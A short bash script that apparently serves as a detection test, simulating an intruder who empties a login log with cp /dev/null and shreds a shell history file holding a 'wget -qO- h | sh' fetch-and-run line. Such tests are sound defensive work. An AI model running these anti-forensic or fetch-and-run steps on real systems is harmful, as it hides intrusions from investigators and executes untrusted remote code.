#!/usr/bin/env bash
# An intruder empties a log that recorded its logins and shreds a shell
# history, from an application's account.
# expect: indicator_removal
# expect: T1070.003
. "$(dirname "$0")/../lib.sh"
log="/var/log/vs-app-$$.log"; vs_protect "$log"
for i in 1 2 3; do echo "accepted login from 10.0.0.$i" >>"$log"; done
cp /dev/null "$log"
app=$(vs_app_root); mkdir -p "$app/home"
printf 'wget -qO- h | sh\n' >"$app/home/.bash_history"
shred -u "$app/home/.bash_history"
